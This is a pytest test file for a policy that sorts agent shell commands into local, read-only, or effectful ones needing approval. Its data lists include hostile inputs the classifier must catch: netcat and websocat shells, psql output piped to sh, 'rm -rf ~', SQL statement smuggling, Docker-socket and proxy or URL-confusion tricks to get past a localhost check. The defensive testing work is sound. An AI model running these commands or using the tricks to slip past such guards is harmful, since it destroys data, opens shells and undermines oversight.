"""Requests and database commands that stay on this machine, or only read; and those that only look like it."""

from __future__ import annotations

import time

import pytest

from jackline.policy.call_context import CallContext
from jackline.policy.classify import classify_call
from jackline.policy.sql_statements import is_reading_statement

WORKSPACE = "/home/dev/project"
WHERE = CallContext(WORKSPACE, WORKSPACE, closed_ports=frozenset({41234}))

LOCAL_REQUESTS = (
    "curl -X POST http://localhost:8000/api/items -d '{}'",
    "curl -X POST http://LOCALHOST:8000 -d '{}'",
    "curl -X POST localhost -d '{}'",
    "curl -sSf -XPUT 127.0.0.1:9200/index -d @body.json",
    "curl -X POST 'http://localhost:3000?q=1' -d x",
    'curl -sS -X POST localhost:3000/api -H "Authorization: Bearer $TOKEN" -d \'{"a": 1}\' | jq .',
    'curl -X POST localhost:3000/api -d "{\\"id\\": $ID}"',
    "curl -X DELETE http://127.0.0.1:8080/items/$ID",
    "curl -X POST 'http://[::1]:8080/' --json '{}' -o out.json",
    "curl -X POST http://0.0.0.0:5000/ -F file=@a.png -w '%{http_code}'",
    "curl --request PATCH --url http://127.0.0.1:5000/x --data-raw '{}' --max-time 5",
    "curl -d a localhost:3000 -d b 127.0.0.1:3001/x",
    'for i in 1 2 3; do curl -s -X POST localhost:3000/x -d "n=$i"; done',
    "wget -qO- --max-redirect=0 --post-data=x http://localhost:3000/",
    "http POST :8000/items name=x",
    "http --json PUT localhost:8000/items name=x",
    "xh post localhost:3000 a=1",
    "nc -z localhost 5432",
    "nc -zv 127.0.0.1 5432",
    "wscat -c ws://localhost:3000",
    "grpcurl -plaintext -d '{}' localhost:50051 pkg.Service/Call",
)
OTHER_REQUESTS = (
    "curl -X POST http://localhost.example.com:8000/api -d '{}'",
    "curl -X POST http://127.0.0.1.example.com/ -d x",
    "curl -X POST http://127.0.0.1@example.com/ -d x",
    "curl -X POST http://127.0.0.1:80@example.com/ -d x",
    "curl -X POST 'http://localhost#@example.com/' -d x",
    "curl -X POST 'http://localhost?@example.com/' -d x",
    "curl -X POST 'http://localhost\\@example.com/' -d x",
    "curl -X POST 'http://{localhost,example.com}/' -d x",
    "curl -X POST http://{localhost,example.com}/ -d x",
    "curl -X POST http://127.0.0.01/ -d x",
    "curl -X POST http://1270.0.0.1/ -d x",
    "curl -X POST http://localhost:99999/ -d x",
    "curl -X POST smtp://localhost/ -d x",
    "curl -X POST ftp://localhost/ -d x",
    "curl -x example.com:80 http://localhost/ -d x",
    "curl --proxy example.com -d x http://localhost/",
    "curl --preproxy example.com -d x http://localhost/",
    "curl --request-target http://example.com/ -d x http://localhost:3128/",
    "curl -d x http://localhost/ http://example.com",
    "curl -d x http://localhost/ --url http://example.com",
    "curl -d x http://localhost/ --next -d y http://example.com",
    "curl -d x -: http://localhost/",
    "curl -L -d x http://localhost/",
    "curl -sLd x http://localhost/",
    "curl --location-trusted -d x http://localhost/",
    "curl --resolve localhost:80:192.0.2.1 -d x http://localhost/",
    "curl --connect-to ::example.com:80 -d x http://localhost/",
    "curl --doh-url https://example.com -d x http://localhost/",
    "curl --dns-servers 192.0.2.1 -d x http://localhost/",
    "curl --interface eth0 -d x http://localhost/",
    "curl -K cfg -d x http://localhost/",
    "http_proxy=http://example.com curl -d x http://localhost/",
    "export ALL_PROXY=http://example.com; curl -d x http://localhost/",
    "env HTTPS_PROXY=example.com curl -d x https://localhost/",
    "CURL_HOME=. curl -d x http://localhost/",
    "curl -d x http://localhost:2375/containers/create",
    "curl -d x http://localhost:2376/containers/create",
    "curl -d x http://127.0.0.1:41234/gate",
    "curl -d x http://127.0.0.1:10250/run",
    "curl -d x localhost:8001/api/v1/namespaces",
    "curl -d x localhost:9222/json/new",
    "curl --unix-socket /var/run/docker.sock -d x http://localhost/containers/create",
    "curl --abstract-unix-socket x -d x http://localhost/",
    'curl -X POST "$URL" -d x',
    "curl -X POST http://$HOST:80/ -d x",
    "curl -X POST http://localhost$X/ -d x",
    "curl -X POST http://localhost:$PORT/ -d x",
    "curl -X POST http://localhost:80$X -d x",
    "curl -X POST http://localhost/ -d $BODY",
    "curl -X POST http://localhost/ $MORE",
    "curl -X POST http://localhost/ -d x -w '%output{/tmp/../etc/x}'",
    "proxychains curl -X POST http://localhost/ -d x",
    "torsocks curl -X POST http://localhost/ -d x",
    "./curl -X POST http://localhost/ -d x",
    "echo http://example.com | xargs curl -X POST http://localhost/ -d x",
    "curl -X POST http://localhost:8080/ -d x -o /etc/motd",
    "wget --post-data=x http://localhost:3000/",
    "wget --max-redirect=0 --max-redirect=5 --post-data=x http://localhost:3000/",
    "wget --max-redirect=0 -e use_proxy=yes --post-data=x http://localhost:3000/",
    "http localhost example.com a=b",
    "http --follow POST :8000 a=b",
    "http -F POST :8000 a=b",
    "http --proxy http:http://example.com POST :8000 a=b",
    "http POST :2375/containers/create a=b",
    "http POST example.com/:8000 a=b",
    "nc localhost 25",
    "nc -x example.com:80 localhost 80",
    "nc -e /bin/sh localhost 80",
    "nc example.com 80",
    "nc -l 3000",
    "websocat ws://localhost.example.com",
    "websocat ws://localhost:3000 exec:sh",
    "grpcurl -d '{}' example.com:50051 pkg.Service/Call",
    "mail -s x a@localhost < y",
)
LOCAL_DATABASES = (
    "psql -h localhost -d app -f schema.sql",
    "psql -hlocalhost app -c 'delete from users'",
    "psql -h /var/run/postgresql -c 'delete from users'",
    "psql postgres://u:p@localhost:5432/app -c 'truncate x'",
    "psql 'postgresql://u:p@127.0.0.1/app?sslmode=disable' -c 'truncate x'",
    "psql 'host=localhost dbname=x' -c 'truncate x'",
    "PGHOST=localhost psql -c 'truncate x'",
    "PGPASSWORD=x psql -v ON_ERROR_STOP=1 -h localhost -U me app -1 -q -f a.sql 2>&1 | tail -5",
    "psql -h localhost <<'S'\ninsert into pages (url, source) values ('a', 'b');\nS",
    "cat dump.sql | psql -h localhost app",
    "mysql -uroot -psecret -h127.0.0.1 app -e 'insert into x values(1)'",
    "mysql -h 127.0.0.1 -u root app < dump.sql",
    "mariadb --host=localhost app -e 'drop table x'",
    "redis-cli -h localhost -p 6380 flushall",
    "redis-cli -u redis://127.0.0.1:6379/1 set a b",
    "mongosh mongodb://localhost/app --eval 'db.users.find().map(u => u.name)'",
    "mongosh --host 127.0.0.1 --eval 'db.users.drop()'",
    "clickhouse-client -h localhost -q 'truncate table x'",
    "createdb -h localhost app_test",
    "dropdb --if-exists -h localhost app_test",
    "pg_restore -h localhost -d app --clean dump",
    "DATABASE_URL=postgres://u@localhost/app npx prisma migrate dev",
    "DATABASE_URL=file:./dev.db npx prisma migrate dev --name init",
    "DATABASE_URL=postgresql+asyncpg://u:p@127.0.0.1:5432/app alembic upgrade head",
    "DB_HOST=localhost knex migrate up",
    "flyway -url=jdbc:postgresql://localhost:5432/app migrate",
    "migrate -database 'postgres://localhost:5432/app?sslmode=disable' -path db up",
)
READ_QUERIES = (
    "psql -c 'select 1'",
    "psql -l",
    "psql -h db.example.com -d app -Atc 'select count(*) from users where x in (1, 2);'",
    'psql "$DATABASE_URL" -c \'select * from "Users" order by id desc limit 5\'',
    "psql $DATABASE_URL -X -c 'explain (format json) select 1'",
    "psql -h db.example.com -c '\\dt'",
    "psql -h db.example.com -c '\\d+ users'",
    "psql -h db.example.com -c \"select ';' || 'delete from x'\"",
    "psql -h db.example.com -c 'show server_version'",
    'psql -h db.example.com -c "select lower(name), coalesce(a, now()) from t group by 1 having sum(x) > 3"',
    "mysql -e 'show tables'",
    "mysql -h db.example.com -e 'show create table x'",
    "mysql -h db.example.com -e 'select * from x\\G'",
    "mysql -h db.example.com -u me -psecret app -e 'describe users'",
    "mysql -h db.example.com -e 'select `count` from `x`'",
    "clickhouse-client -h ch.example.com -q 'select count() from t format JSON'",
)
OTHER_STATEMENTS = (
    "psql -c 'delete from users'",
    "psql -c 'select 1; delete from x'",
    "psql -c 'select 1' -c 'delete from x'",
    "psql -f query.sql",
    "psql -h db.example.com < query.sql",
    "psql -o out.txt -c 'select 1'",
    "psql -o '|sh' -c 'select 1'",
    "psql -L log -c 'select 1'",
    "psql -h localhost -o '|sh' -c 'select 1'",
    "psql --set=x=1 -c 'select :x'",
    'psql -c "select $1"',
    'psql -c "$SQL"',
    "psql -c 'select pg_terminate_backend(1)'",
    "psql -c 'select \"pg_sleep\"(1)'",
    "psql -c 'select evil.count(1)'",
    "psql -c 'select evil.\"count\" (1)'",
    "psql -c \"select nextval('x')\"",
    "psql -c \"select * from dblink('x')\"",
    "psql -c \"select query_to_xml('delete from x', true, true, '')\"",
    "psql -c 'select * from t for update'",
    "psql -c 'select * from t for no key update'",
    "psql -c 'select * from t for share'",
    "psql -c 'select * into x from t'",
    "psql -c 'explain analyze delete from t'",
    "psql -c 'explain (analyze) select 1'",
    "psql -c 'explain (costs, analyze true) delete from t'",
    "psql -c 'with x as (delete from t returning 1) select * from x'",
    "psql -c 'select * from (with x as (delete from t returning 1) select 1 from x) y'",
    "psql -c \"select E'\\\\''; delete from t; --'\"",
    "psql -c \"select '\\\\'''; delete from t; --'\"",
    "psql -c 'select $$a$$'",
    "psql -c \"select 1 -- '\n; delete from t; -- '\"",
    "psql -c 'select 1 /* x */'",
    "psql -c 'select 1 \\g |sh'",
    "psql -c 'select 1 \\gexec'",
    "psql -c '\\! ls'",
    "psql -c '\\copy t to x'",
    "psql -c '\\dt \\! ls'",
    "psql -c '\\d `ls`'",
    "psql -c '\\o x'",
    "psql -c '\\i x'",
    "psql -h localhost -c '\\! ls'",
    "psql -h localhost -c '\\c other'",
    "psql -h localhost -c \"copy t to program 'sh'\"",
    "psql -h localhost -c \"copy t to/**/program/**/'sh'\"",
    "psql -h localhost -c 'select 1 \\g |sh'",
    "psql -h localhost <<'S'\n\\! rm -rf ~\nS",
    "psql -h localhost -v PROMPT1=x -c 'truncate x'",
    "DATABASE_URL='x -f y'; psql $DATABASE_URL -c 'select 1'",
    "psql postgres://u:p@localhost:5432,db.example.com:5432/app -c 'truncate x'",
    "psql 'postgres://u:p@localhost/app?host=db.example.com' -c 'truncate x'",
    "psql 'postgres://u:p@localhost/app?hostaddr=192.0.2.1' -c 'truncate x'",
    "psql 'postgres://u:p@localhost/app?h%6fst=db.example.com' -c 'truncate x'",
    "psql 'postgres://localhost@db.example.com/app' -c 'truncate x'",
    "psql 'host=localhost hostaddr=192.0.2.1 dbname=x' -c 'truncate x'",
    "psql \"host=localhost service=prod\" -c 'truncate x'",
    "psql \"host=localhost host=db.example.com\" -c 'truncate x'",
    "psql -h localhost,db.example.com -c 'truncate x'",
    "psql -h localhost 'host=db.example.com dbname=x' -c 'truncate x'",
    "psql -h localhost -h db.example.com -c 'truncate x'",
    "psql -h $HOST -c 'truncate x'",
    "PGHOST=db.example.com psql -h localhost -c 'truncate x'",
    "PGHOSTADDR=192.0.2.1 psql -h localhost -c 'truncate x'",
    "PGSERVICE=prod psql -h localhost -c 'truncate x'",
    "PSQLRC=x psql -h localhost -c 'truncate x'",
    "PSQL_PAGER=sh psql -h localhost -c 'select 1'",
    "PAGER=sh psql -c 'select 1'",
    "psql -h localhost -p 2375 -c 'truncate x'",
    "mysql -h db.example.com -e \"select 1 into outfile '/tmp/x'\"",
    "mysql -h db.example.com -e 'select /*!50000 sleep(9)*/ 1'",
    "mysql -h db.example.com -e 'select `sleep`(9)'",
    "mysql -h db.example.com -e 'select sleep (9)'",
    "mysql -h db.example.com -e 'select @a:=1'",
    "mysql -h db.example.com -e 'select 1\nsystem ls'",
    "mysql -h db.example.com -e 'select 1 # x'",
    "mysql -h localhost -e 'system ls'",
    "mysql -h localhost -e '\\! ls'",
    "mysql --defaults-file=x -h localhost -e 'drop table x'",
    "mysql --init-command='drop table x' -h db.example.com -e 'select 1'",
    "mysql -h localhost --tee=/etc/x -e 'select 1'",
    "mysql -h localhost -e \"select 1 into outfile '/etc/x'\"",
    "redis-cli -h cache.example.com set a b",
    "redis-cli set a b",
    "redis-cli -h localhost config set dir /root",
    "redis-cli -h localhost migrate db.example.com 6379 k 0 1000",
    "redis-cli -h localhost --rdb /etc/x",
    "mongosh mongodb://db.example.com/app --eval 'db.users.find()'",
    "mongosh --host localhost --eval 'require(\"fs\").x'",
    "mongosh --host localhost --eval 'new Mongo(\"db.example.com\")'",
    "mongosh --host localhost x.js",
    "clickhouse-client -h ch.example.com -q \"select * from url('http://example.com')\"",
    "clickhouse-client -h ch.example.com -q \"show tables into outfile 'x'\"",
    "createdb app_test",
    "dropdb -h db.example.com app",
    "dropdb -h localhost --maintenance-db=postgres://db.example.com/x app",
    "mongosh mongodb+srv://localhost/x --eval 'db.a.drop()'",
    "DATABASE_URL=postgres://u@db.example.com/app npx prisma migrate dev",
    "DATABASE_URL=postgres://localhost/a DIRECT_URL=postgres://db.example.com/a npx prisma migrate deploy",
    "DATABASE_URL=$URL npx prisma migrate dev",
    "DATABASE_URL=postgres://localhost.example.com/a alembic upgrade head",
    "npx prisma migrate dev",
    "alembic upgrade head",
    "flyway -url=jdbc:postgresql://db.example.com:5432/app migrate",
    "./psql -h localhost -c 'truncate x'",
)  # fmt: skip


def classify(command: str, where: CallContext = WHERE) -> tuple[str, str]:
    rule = classify_call((), "Bash", {"command": command}, where).rule
    return str(rule.call_class), str(rule.decision)


@pytest.mark.parametrize("command", [*LOCAL_REQUESTS, *LOCAL_DATABASES])
def test_what_stays_on_this_machine_is_local(command: str) -> None:
    assert classify(command) == ("local", "allow")


@pytest.mark.parametrize("command", READ_QUERIES)
def test_one_statement_that_only_reads_is_a_read(command: str) -> None:
    assert classify(command) == ("read", "allow")


@pytest.mark.parametrize("command", [*OTHER_REQUESTS, *OTHER_STATEMENTS])
def test_what_only_looks_harmless_asks(command: str) -> None:
    assert classify(command) in {("effect", "ask"), ("unknown", "allow")}
    if not command.startswith(("./", "nc -l")):
        assert classify(command) == ("effect", "ask")


@pytest.mark.parametrize("command", [*LOCAL_REQUESTS, *LOCAL_DATABASES, *READ_QUERIES])
def test_a_run_that_began_earlier_keeps_its_classes(command: str) -> None:
    kept = classify(command, WHERE._replace(version=1))
    assert kept == ("effect", "ask") or command == "psql -l"


def test_a_request_to_the_gate_asks_only_while_its_port_is_ours() -> None:
    command = "curl -d x http://127.0.0.1:41234/gate"
    assert classify(command) == ("effect", "ask")
    assert classify(command, WHERE._replace(closed_ports=frozenset())) == ("local", "allow")


@pytest.mark.parametrize(
    "text", ["select " + "(" * 19_000, "select '" + "''" * 9_000, "select " + "a." * 9_000, "\\d" * 9]
)
def test_a_long_statement_is_checked_in_linear_time(text: str) -> None:
    start = time.process_time()
    is_reading_statement(text, "psql")
    assert time.process_time() - start < 1
